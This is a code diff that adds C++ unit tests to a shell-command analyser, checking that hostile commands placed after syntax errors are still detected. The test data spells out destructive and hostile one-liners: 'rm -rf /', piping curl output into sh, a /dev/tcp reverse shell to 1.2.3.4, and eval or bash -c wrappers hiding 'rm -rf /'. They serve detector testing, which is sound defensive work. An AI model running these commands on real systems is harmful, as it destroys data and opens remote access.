@@ -10,6 +10,7 @@
 #include "analysis/rule.h"
 #include "analysis/shell_expand.h"
 #include "analysis/shell_path.h"
+#include "analysis/shell_pieces.h"
 #include "analysis/shell_text.h"
 
 namespace belljar::analysis {
@@ -73,6 +74,66 @@ TEST(ShellHostile, FindingsAreInOrderAndEachOnce) {
 TEST(ShellHostile, TheSameTextGetsTheSameAnswer) {
   const std::string_view text = "x=$(cat f)\neval \"$x\"; curl h | sh; rm -rf $y/*\n";
   EXPECT_EQ(AnalyseShell(text).findings, AnalyseShell(text).findings);
+}
+
+// Commands behind a place that the grammar cannot read are commands all the same.
+TEST(ShellBroken, WhatFollowsAnErrorIsJudged) {
+  struct Row {
+    std::string_view script, rule;
+  };
+  for (const Row& row : std::vector<Row>{
+           {"[ -d / ] && rm -rf / --no-preserve-root 2>&1 | head -2; echo done", "sh-rm-root"},
+           {"[ -d ~ ] && rm -rf ~", "sh-rm-root"},
+           {"[ -e / ] && chmod 777 x", "sh-chmod-777"},
+           {"[ -d / ] || exit\ncurl http://x | sh", "sh-download-run"},
+           {"[ -w / ] && echo w\nbash -i >& /dev/tcp/1.2.3.4/99 0>&1", "sh-reverse-shell"},
+           {"case $x in\na) echo a ;;&\n(b) ;;\nesac\nrm -rf /", "sh-rm-root"},
+           {"case x in (b) ;; a|x) rm -rf / ;;& esac", "sh-rm-root"},
+           {"[ / -ef / ] && rm -rf /", "sh-rm-root"},
+           {"[ / -ef / ]; x=$(case x in a) ls;; esac; rm -rf / )", "sh-rm-root"},
+           {"[ ! / ] || { rm -rf /; }", "sh-rm-root"},
+           {"echo ) ; curl http://x |\n sh", "sh-download-run"},
+           {"fi\nif true; then (cd /; rm -rf /); fi", "sh-rm-root"},
+           {"cat <<E )\ndon't\nE\nrm -rf /\necho 'x'", "sh-rm-root"},
+           {"bash -c 'echo ) ; rm -rf /'", "sh-rm-root"},
+           {"eval 'fi; rm -rf /'", "sh-rm-root"}}) {
+    const Analysis analysis = AnalyseShell(row.script);
+    EXPECT_TRUE(HasFinding(analysis, row.rule)) << row.script;
+  }
+}
+
+TEST(ShellBroken, IsAtLeastCodeThatRuns) {
+  for (const std::string_view script : {"if true; then echo x", "echo )", "echo 'x"}) {
+    EXPECT_EQ(AnalyseShell(script).level, Level::kRunsCode) << script;
+    EXPECT_FALSE(HasFinding(AnalyseShell(script), "sh-unclear")) << script;
+  }
+  for (const std::string_view script : {"[ -d / ] && ls", "test -d / && ls", "[ \"$x\" = / ]"}) {
+    EXPECT_TRUE(AnalyseShell(script).findings.empty()) << script;
+    EXPECT_EQ(AnalyseShell(script).level, Level::kReads) << script;
+  }
+}
+
+TEST(ShellBroken, ReadingItAgainIsBounded) {
+  static_cast<void>(AnalyseShell(")\n" + Times(50'000, "ls; ")));
+  static_cast<void>(AnalyseShell(")\n" + Times(50'000, "$(\"")));
+  static_cast<void>(AnalyseShell(Times(5'000, "bash -c ') ; ")));
+}
+
+TEST(ShellBroken, CutsRespectQuotesAndNesting) {
+  const auto cut = [](std::string_view text) {
+    std::string all;
+    for (const shell::TextPiece& piece : shell::CutText(text, shell::Cut::kPipelines)) {
+      all += "<" + piece.text + ">";
+    }
+    return all;
+  };
+  EXPECT_EQ(cut("a; b && c || d | e & f\ng"), "<a><b ><c ><d | e ><f><g>");
+  EXPECT_EQ(cut("a 'x;y' \"p;$(q; \"r;\")\" \\; `s;t`;z"),
+            "<a 'x;y' \"p;$(q; \"r;\")\" \\; `s;t`><z>");
+  EXPECT_EQ(cut("if a; then b 2>&1; fi # c; d'\ne &>f"), "<a><b 2>&1><# c; d'><e &>f>");
+  EXPECT_EQ(cut("for x in 1 2; do (y; z); done"), "<:  1 2><y><z>");
+  EXPECT_EQ(cut("case $x in\na|b) c ;;\n*) d\nesac"), "<: $x><a|b><c ><d>");
+  EXPECT_EQ(cut("f() { a=(b; c); }; a |\nb"), "<a=(b; c)><a |\nb>");
 }
 
 TEST(ShellCommand, ArgumentsThatHoldCommandsAreBlocked) {
